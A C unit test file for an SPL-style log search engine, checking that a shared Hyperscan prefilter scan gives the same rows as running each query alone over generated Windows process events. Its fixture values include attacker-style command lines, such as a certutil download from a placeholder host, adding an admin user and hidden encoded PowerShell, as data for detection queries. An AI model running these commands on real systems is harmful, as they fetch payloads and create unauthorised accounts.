/* test_multi.c: the shared scan (src/multi/) against running each query
 * alone. A store of generated events (multivalue fields, mixed case, %, _
 * and \ in values, non-ASCII and invalid UTF-8 bytes, a NUL inside a value,
 * empty strings) and a few hundred queries (generated field/value/wildcard
 * searches from a seeded PRNG, and hand-written ones with eval, rename,
 * where, stats, long IN lists, tstats over a data model summary): each
 * query compiled with the prefilter and run after the scan gives exactly
 * its rows alone (compiled alone when the scan gave its slot up, as check
 * runs it), scanned by itself and in one scan with all the others; one
 * whose slot lists no rows and that says it then gives none
 * (empty_stays_empty) gives none alone;
 * Hyperscan and the naive matcher (SPLITE_MX_NAIVE=1) list the same rows
 * for every slot; splite_cand without an installed scan fails with its
 * error; a database without events. */
#include "testutil.h"
#include "mx_equiv.h"
#include "datamodel.h"

static uint64_t rng_state;

static uint32_t rnd(void)
{
    rng_state = rng_state * 6364136223846793005ull + 1442695040888963407ull;
    return (uint32_t)(rng_state >> 33);
}

static const char *pick(const char *const *v, size_t n)
{
    return v[rnd() % n];
}
#define PICK(a) pick((a), sizeof(a) / sizeof((a)[0]))

/* Values are stored with store_insert, not through ingest (which escapes
 * bytes that are not UTF-8 as \xNN): the few invalid bytes here check that
 * the byte-for-byte paths agree; a valid piece matching an invalid value
 * only as SQLite decodes it (E3 A4 as U+00E4) is outside the formulas'
 * premise (spl_pf.h) and not generated. */
static const char *const images[] = {
    "C:\\Windows\\System32\\cmd.exe", "C:\\WINDOWS\\system32\\CMD.EXE", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Tools\\nc.exe", "C:\\Program Files\\App\\app_1.exe", "c:\\temp\\100%done.exe", "C:\\Users\\Jos\xc3\xa9\\t\xc3\xa4st.exe",
    "C:\\bad\\\xff\xfe.exe", "", "/usr/bin/python3", "C:\\x\\cmdcmd.exe",
};
static const char *const cmds[] = {
    "cmd.exe /c whoami", "CMD /C WHOAMI /ALL", "powershell -enc SQBFAFgA", "powershell.exe -nop -w hidden",
    "net user admin P@ss_w0rd /add", "reg add HKLM\\Software\\x /v 50% /d 1", "rundll32 a.dll,_Entry",
    "certutil -urlcache -f http://x/a.exe", "notepad \xc3\xa9t\xc3\xa9.txt", "", "whoami", "cmd \xff\xfe whoami",
    "\\\\host\\share\\x.bat", "a_b%c\\d",
};
static const char *const users[] = {"CORP\\alice", "corp\\ALICE", "bob", "Bob", "SYSTEM", "-", "", "d\xc3\xa9nis"};
static const char *const tags[] = {"red", "Green", "blue_x", "50%", "\\x", "", "ALPHA", "beta", "gr\xc3\xbcn",
                                    "q\"uo\"te", "tab\there", "bad\xff\xfeutf", "\xc3", "ctl\x01\x1f"};
static const char *const codes[] = {"1", "3", "11", "4688", "4624", "01", "1.0"};

static void add_events(store *st, int n)
{
    assert_int_equal(store_begin(st), 0);
    for (int i = 0; i < n; i++) {
        event ev;
        event_init(&ev);
        ev.index = i % 7 ? "main" : "Other";
        ev.host = i % 3 ? "web-01" : "WEB-02";
        ev.source = i % 2 ? "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational" : "XmlWinEventLog:Security";
        ev.sourcetype = "XmlWinEventLog";
        ev.time = 1700000000 + i;
        ev.has_time = 1;
        char raw[64];
        snprintf(raw, sizeof raw, "event %d", i);
        ev.raw = raw;
        ev.raw_len = strlen(raw);
        if (rnd() % 8) event_add_str(&ev, "EventCode", PICK(codes));
        if (rnd() % 5) event_add_str(&ev, "Image", PICK(images));
        if (rnd() % 4) event_add_str(&ev, "CommandLine", PICK(cmds));
        if (rnd() % 3) event_add_str(&ev, "User", PICK(users));
        /* a multivalue: the same name repeated (stored as a JSON array BLOB) */
        int nt = (int)(rnd() % 4);
        for (int k = 0; k < nt; k++) event_add_str(&ev, "Tags", PICK(tags));
        if (i % 11 == 0) event_add_str(&ev, "Rare", "needle_in_haystack");
        /* a NUL inside a value (the kv reader keeps one): LIKE reads up to it */
        if (i % 5 == 1) event_add(&ev, "Nul", 3, i % 2 ? "abc\0xyz123" : "ABC", i % 2 ? 10 : 3);
        if (i % 13 == 2) event_add(&ev, "Tags", 4, "nul\0abc", 7); /* and in a multivalue */
        assert_true(store_insert(st, &ev, 0) > 0);
        event_free(&ev);
    }
    assert_int_equal(store_commit(st), 0);
    assert_int_equal(store_reload_catalog(st), 0);
}

/* a random searchable value: a piece of a real value, maybe with wildcards
 * around and inside it, maybe with its case changed */
static char *rand_value(const char *field)
{
    const char *src = !strcmp(field, "Image")       ? PICK(images)
                      : !strcmp(field, "CommandLine") ? PICK(cmds)
                      : !strcmp(field, "User")        ? PICK(users)
                      : !strcmp(field, "Tags")        ? PICK(tags)
                      : !strcmp(field, "EventCode")   ? PICK(codes)
                                                      : "needle_in_haystack";
    size_t n = strlen(src);
    sbuf b = {0};
    sbuf_add(&b, "");
    size_t a = n ? rnd() % (n + 1) : 0, z = n ? a + rnd() % (n - a + 1) : 0;
    int whole = rnd() % 3 == 0;
    if (whole) { a = 0; z = n; }
    if (a > 0 || rnd() % 4 == 0) sbuf_addc(&b, '*');
    for (size_t i = a; i < z; i++) {
        char c = src[i];
        if (c == '"' || c == '*') continue;
        if (rnd() % 5 == 0) c = (char)((c >= 'a' && c <= 'z') ? c - 32 : (c >= 'A' && c <= 'Z') ? c + 32 : c);
        if (c == '\\') sbuf_add(&b, "\\\\"); /* a backslash in a quoted SPL value */
        else sbuf_addc(&b, c);
        if (rnd() % 13 == 0) sbuf_addc(&b, '*');
    }
    if (z < n || rnd() % 4 == 0) sbuf_addc(&b, '*');
    return sbuf_detach(&b);
}

static const char *const fields[] = {"Image", "CommandLine", "User", "Tags", "EventCode", "Rare", "NoSuch"};

/* one random term: field=value, field!=value, NOT, IN, a bare term */
static void rand_term(sbuf *q, int depth)
{
    const char *f = PICK(fields);
    char *v = rand_value(f);
    switch (rnd() % (depth < 2 ? 9 : 7)) {
    case 0: sbuf_printf(q, "%s!=\"%s\"", f, v); break;
    case 1: sbuf_printf(q, "NOT %s=\"%s\"", f, v); break;
    case 2: {
        char *w = rand_value(f);
        sbuf_printf(q, "%s IN (\"%s\", \"%s\")", f, v, w);
        free(w);
        break;
    }
    case 3: sbuf_printf(q, "\"%s\"", *v ? v : "x"); break;
    case 7:
    case 8: {
        sbuf_addc(q, '(');
        rand_term(q, depth + 1);
        sbuf_add(q, rnd() % 2 ? " OR " : " ");
        rand_term(q, depth + 1);
        sbuf_addc(q, ')');
        break;
    }
    default: sbuf_printf(q, "%s=\"%s\"", f, v); break;
    }
    free(v);
}

static char *rand_query(void)
{
    sbuf q = {0};
    if (rnd() % 3 == 0) sbuf_add(&q, "index=main ");
    int terms = 1 + (int)(rnd() % 3);
    for (int i = 0; i < terms; i++) {
        if (i) sbuf_add(&q, rnd() % 3 ? " " : " OR ");
        rand_term(&q, 0);
    }
    switch (rnd() % 6) {
    case 0: sbuf_add(&q, " | stats count by User"); break;
    case 1: sbuf_add(&q, " | eval u=lower(User) | search CommandLine=*who*"); break;
    case 2: sbuf_add(&q, " | table _time Image CommandLine Tags"); break;
    default: break;
    }
    return sbuf_detach(&q);
}

static const char *const hand[] = {
    "index=main Image=*\\\\cmd.exe",
    "Image=\"*\\\\CMD.EXE\" CommandLine=*whoami*",
    "CommandLine=\"*50%*\" OR CommandLine=\"a_b%c\\\\d\"",
    "CommandLine=*a_b* | stats count",
    "Tags=green OR Tags=\"*_x\" | table Tags",
    "Tags=\"50%\" | stats count by host",
    "Tags=\"\\\\x\"",
    "Tags=\"gr\xc3\xbcn\" OR Tags=\"GR\xc3\x9cN\"",
    "Tags=\"q\\\"uo\\\"te\" OR Tags=\"*\\\"uo*\"",
    "Tags=\"tab\there\" OR Tags=\"*\xff\xfeUTF\" OR Tags=\"\xc3\"",
    "Tags=\"*\x01*\" | stats count by Tags",
    "Image=\"*t\xc3\xa4st*\"",
    "Image=\"*T\xe3\xa4ST*\"", /* LIKE reads E3 A4 as U+00E4 */
    "Nul=\"*abc\" | stats count", /* up to the NUL */
    "Nul=\"abc*123\" OR Nul=\"*xyz*\"",
    "Nul=abc OR Nul=\"*ABC\"",
    "Tags=\"*nul\" OR Tags=\"nul*\" | stats count by host",
    "Tags=\"*abc\"",
    "Tags=nul | stats count by host", /* json_each gives nul<NUL>abc as nul */
    "Image=\"*\xff\xfe*\"",
    "CommandLine=\"*\xff\xfe whoami\"",
    "User=\"d\xc3\xa9nis\" OR User=\"D\xc3\x89NIS\"",
    "User=\"\" | stats count",
    "CommandLine=\"\" OR Image=\"\"",
    "EventCode=1 | stats count by EventCode",
    "EventCode=01",
    "EventCode=1.0 OR EventCode=4688",
    "index=other host=web-02 | stats count by source",
    "source=\"*Sysmon*\" EventCode=1 Image=*powershell* | eval x=len(CommandLine) | where x > 3 | table x",
    "index=main | rename CommandLine AS c | search c=\"*whoami*\" | table c",
    "index=main | eval CommandLine=upper(CommandLine) | search CommandLine=\"*WHOAMI*\"",
    "index=main | where like(Image, \"%cmd%\") | search User=*alice*",
    "index=main | fields Image User | search User=bob",
    "Rare=needle_in_haystack | head 3",
    "Rare=*needle* | dedup User | search User=*",
    "Rare=*haystack NOT User=bob | stats count by User, Tags",
    "NoSuch=x OR Rare=*needle*",
    "NoSuch=x",
    "Image IN (\"*cmd.exe\", \"*nc.exe\", \"/usr/bin/*\") | stats count by Image",
    "CommandLine=CASE(*WHOAMI*)",
    "_time=1700000005",
    "index=main _time=1700000010 Image=*",
    "Image=c:* CommandLine!=*whoami* | sort - _time | head 5",
    "User=CORP\\\\ALICE [search Rare=* | fields Image]",
    /* regex atoms (| regex, an eval'd match() flag searched later) */
    "index=main | regex CommandLine=\"(?i)who.mi\"",
    "index=main | eval X=if(match(Image, \"(?i)cmd\\.exe$\"), 1, 0) | search X=1 | stats count by Image",
    "Tags=* | regex Tags=\"^(gr|bl)\" | table Tags",
    "index=main | eval X=if(match(CommandLine, \"\xc3\xa9t\"), 1, 0) | search X=1",
    /* the scan lists no rows: run, or not (empty_stays_empty), the same */
    "Rare=*zzzzz* | stats count",
    "Rare=*zzzzz* | stats count by User",
    "Rare=*zzzzz* | eventstats count by User | streamstats count",
    "Rare=*zzzzz* | top User",
    "Rare=*zzzzz* | fillnull value=x User | transaction User",
    "Rare=*zzzzz* | append [| makeresults]",
    "Rare=*zzzzz* | appendpipe [stats count] | addtotals",
    "Rare=*zzzzz* | join type=left User [search Rare=* | stats count by User]",
    "Rare=*zzzzz* | mvexpand User | stats dc(User) as d",
    "Rare=*zzzzz* | map search=\"| makeresults\"",
    /* tstats over a data model summary: its own group in the scan */
    "| tstats count from datamodel=Endpoint.Processes where Processes.process_name=cmd.exe by Processes.user",
    "| tstats count from datamodel=Endpoint.Processes where Processes.process=*whoami* by Processes.process",
    "| tstats count from datamodel=Endpoint.Processes where Processes.user=*alice* OR Processes.process_path=\"*\\\\nc.exe\" by Processes.dest",
    "| tstats count from datamodel=Endpoint.Processes where Processes.process_name IN (\"CMD.EXE\", \"t\xc3\xa4st.exe\") by Processes.process_name",
};

typedef struct fixture {
    char *path;
    store *st;
    dm_registry *dm;
} fixture;

static int setup(void **state)
{
    fixture *f = xcalloc(1, sizeof *f);
    char *err = NULL;
    f->path = tu_tmp_path(".db");
    f->st = store_open(f->path, &err);
    assert_non_null(f->st);
    rng_state = 15;
    add_events(f->st, 1500); /* past the sampled rows (trigger sets planned) and 1,024 (slots given up) */
    char *dir = xasprintf("%s/datamodels", getenv("SPLITE_SRC") ? getenv("SPLITE_SRC") : ".");
    f->dm = dm_load_dir(dir, &err);
    free(dir);
    assert_non_null(f->dm);
    *state = f;
    return 0;
}

static int teardown(void **state)
{
    fixture *f = *state;
    store_close(f->st);
    tu_remove_db(f->path);
    free(f->path);
    dm_free(f->dm);
    free(f);
    return 0;
}

static char **all_queries(int *n)
{
    int nh = (int)(sizeof hand / sizeof hand[0]), ng = 200;
    char **v = xcalloc((size_t)(nh + 4 + ng), sizeof *v);
    for (int i = 0; i < nh; i++) v[i] = xstrdup(hand[i]);
    rng_state = 4242;
    /* long IN lists (more values than SPL_SQL_FANOUT: one set membership) */
    const char *big[] = {"Tags", "Image", "User", "EventCode"};
    for (int b = 0; b < 4; b++) {
        sbuf q = {0};
        sbuf_printf(&q, "%s IN (", big[b]);
        for (int i = 0; i < 40; i++) {
            /* whole values of the field (quoted for SPL, case changed), or none */
            const char *val = i % 9 != 3 ? NULL
                              : b == 0   ? PICK(tags)
                              : b == 1   ? PICK(images)
                              : b == 2   ? PICK(users)
                                         : PICK(codes);
            sbuf_add(&q, i ? ", \"" : "\"");
            if (!val) sbuf_printf(&q, "none%d", i);
            for (const char *c = val; c && *c; c++) {
                if (*c == '"' || *c == '\\') sbuf_addc(&q, '\\');
                sbuf_addc(&q, i % 2 && *c >= 'a' && *c <= 'z' ? (char)(*c - 32) : *c);
            }
            sbuf_addc(&q, '"');
        }
        sbuf_add(&q, ") | stats count by host");
        v[nh + b] = sbuf_detach(&q);
    }
    nh += 4;
    for (int i = 0; i < ng; i++) v[nh + i] = rand_query();
    *n = nh + ng;
    return v;
}

static void free_queries(char **v, int n)
{
    for (int i = 0; i < n; i++) free(v[i]);
    free(v);
}

/* each query scanned by itself: the rows it gives alone */
static void each_alone(void **state)
{
    fixture *f = *state;
    spl_opts o = {.now = 1717243200, .datamodels = f->dm};
    int n, with_pf = 0, listed_some = 0;
    char **qs = all_queries(&n);
    for (int i = 0; i < n; i++) {
        mxe_result r;
        int rc = mxe_compare(f->st, NULL, qs[i], &o, &r);
        if (rc) fail_msg("%s: %s", qs[i], r.why);
        if (r.why) fail_msg("%s (formula %s): %s", qs[i], r.pf, r.why);
        with_pf += r.slot >= 0;
        listed_some += r.slot >= 0 && r.rows > 0;
        mxe_result_free(&r);
    }
    /* the generated queries are not all trivial */
    assert_true(with_pf > n / 2);
    assert_true(listed_some > n / 5);
    free_queries(qs, n);
}

typedef struct compiled {
    spl_query **q;    /* with the prefilter */
    spl_query **a;    /* alone */
    int *slot;
    int n;
} compiled;

static void compile_all(fixture *f, char **qs, int n, compiled *c)
{
    spl_opts o = {.now = 1717243200, .datamodels = f->dm};
    spl_opts p = o;
    p.prefilter = 1;
    c->q = xcalloc((size_t)n, sizeof *c->q);
    c->a = xcalloc((size_t)n, sizeof *c->a);
    c->slot = xcalloc((size_t)n, sizeof *c->slot);
    c->n = n;
    for (int i = 0; i < n; i++) {
        spl_error e = {0};
        if (spl_compile(f->st, NULL, qs[i], &p, &c->q[i], &e)) fail_msg("%s: %s", qs[i], e.msg);
        spl_error_free(&e);
        if (spl_compile(f->st, NULL, qs[i], &o, &c->a[i], &e)) fail_msg("%s: %s", qs[i], e.msg);
        spl_error_free(&e);
    }
}

static void free_compiled(compiled *c)
{
    for (int i = 0; i < c->n; i++) {
        spl_query_free(c->q[i]);
        spl_query_free(c->a[i]);
    }
    free(c->q);
    free(c->a);
    free(c->slot);
}

static mx *scan_all(fixture *f, compiled *c, int naive)
{
    if (naive) setenv("SPLITE_MX_NAIVE", "1", 1);
    else unsetenv("SPLITE_MX_NAIVE");
    mx *m = mx_new();
    for (int i = 0; i < c->n; i++) c->slot[i] = mx_add(m, c->q[i]);
    char *err = NULL;
    if (mx_scan(m, f->st, &err)) fail_msg("mx_scan: %s", err);
    unsetenv("SPLITE_MX_NAIVE");
    return m;
}

/* all queries in one scan, as check runs them: each gives its rows alone;
 * Hyperscan and the naive matcher list the same rows for every slot */
static void one_scan_for_all(void **state)
{
    fixture *f = *state;
    int n;
    char **qs = all_queries(&n);
    compiled c;
    compile_all(f, qs, n, &c);
    mx *naive = scan_all(f, &c, 1);
    size_t *counts = xcalloc((size_t)n, sizeof *counts);
    for (int i = 0; i < n; i++) counts[i] = c.slot[i] >= 0 ? mx_count(naive, c.slot[i]) : 0;
    mx_free(naive);
    mx *m = scan_all(f, &c, 0);
    const mx_stats *s = mx_get_stats(m);
    assert_true(s->rows > 1500); /* the events, and the summary rows of the tstats group */
    assert_true(s->queries > n / 2);
    for (int i = 0; i < n; i++)
        if (c.slot[i] >= 0 && mx_count(m, c.slot[i]) != counts[i])
            fail_msg("%s: Hyperscan lists %zu rows, the naive matcher %zu", qs[i], mx_count(m, c.slot[i]), counts[i]);
    assert_int_equal(mx_attach(store_db(f->st)), 0);
    assert_int_equal(mx_attach(store_db(f->st)), 0); /* idempotent */
    mx_install(m);
    int given_up = 0, listed_dense = 0;
    for (int i = 0; i < n; i++) {
        char *ra, *rp, *ea, *ep;
        int up = mxe_given_up(m, c.slot[i]);
        given_up += up;
        listed_dense += !up && mx_dense(m, c.slot[i]);
        /* a slot given up runs compiled alone (check does); the others with the list */
        int xa = mxe_run(f->st, c.a[i], &ra, &ea), xp = mxe_run(f->st, up ? c.a[i] : c.q[i], &rp, &ep);
        if (xa || xp) fail_msg("%s: alone %s, with the prefilter %s", qs[i], xa ? ea : "ok", xp ? ep : "ok");
        if (strcmp(ra, rp)) fail_msg("%s: rows differ in the shared scan\n--- alone\n%.1500s--- shared\n%.1500s", qs[i], ra, rp);
        char *why = mxe_check_empty(m, c.slot[i], c.q[i], ra);
        if (why) fail_msg("%s: %s", qs[i], why);
        free(ra);
        free(rp);
    }
    /* both kinds of dense slot occur: given up at 1,024 rows, and listed */
    assert_true(given_up > 0);
    assert_true(listed_dense > 0);
    mx_install(NULL);
    mx_free(m);
    free(counts);
    free_compiled(&c);
    free_queries(qs, n);
}

/* a prefilter query run with no scan installed fails with splite_cand's
 * error; so does one whose slot the installed scan does not have */
static void no_scan_installed(void **state)
{
    fixture *f = *state;
    spl_opts o = {.now = 1717243200, .prefilter = 1};
    spl_query *q = NULL;
    spl_error e = {0};
    assert_int_equal(spl_compile(f->st, NULL, "Image=*cmd.exe | stats count", &o, &q, &e), 0);
    assert_non_null(q->pf);
    assert_int_equal(mx_attach(store_db(f->st)), 0);
    mx_install(NULL);
    char *out = NULL, *err = NULL;
    assert_int_not_equal(mxe_run(f->st, q, &out, &err), 0);
    assert_non_null(err);
    if (!strstr(err, "splite_cand: no rows were listed")) fail_msg("error: %s", err);
    free(out);
    free(err);
    /* installed, but q was never given a slot in it */
    mx *m = mx_new();
    char *serr = NULL;
    assert_int_equal(mx_scan(m, f->st, &serr), 0); /* no slots: nothing to scan */
    mx_install(m);
    assert_int_not_equal(mxe_run(f->st, q, &out, &err), 0);
    if (!err || !strstr(err, "splite_cand")) fail_msg("error: %s", err ? err : "(none)");
    free(out);
    free(err);
    mx_install(NULL);
    assert_int_equal(mx_count(m, 0), 0); /* a slot it does not have */
    assert_int_equal(mx_count(m, -1), 0);
    mx_free(m);
    spl_query_free(q);
    spl_error_free(&e);
}

/* a database without events: every slot lists nothing, results agree */
static void empty_database(void **state)
{
    (void)state;
    char *path = tu_tmp_path(".db"), *err = NULL;
    store *st = store_open(path, &err);
    assert_non_null(st);
    spl_opts o = {.now = 1717243200};
    const char *qs[] = {"index=main", "Image=*cmd*", "Image=x | stats count", "NoSuch=x OR index=main"};
    for (size_t i = 0; i < sizeof qs / sizeof qs[0]; i++) {
        mxe_result r;
        if (mxe_compare(st, NULL, qs[i], &o, &r)) fail_msg("%s: %s", qs[i], r.why);
        if (r.why) fail_msg("%s: %s", qs[i], r.why);
        assert_int_equal(r.listed, 0);
        mxe_result_free(&r);
    }
    store_close(st);
    tu_remove_db(path);
    free(path);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(each_alone, setup, teardown),
        cmocka_unit_test_setup_teardown(one_scan_for_all, setup, teardown),
        cmocka_unit_test_setup_teardown(no_scan_installed, setup, teardown),
        cmocka_unit_test(empty_database),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
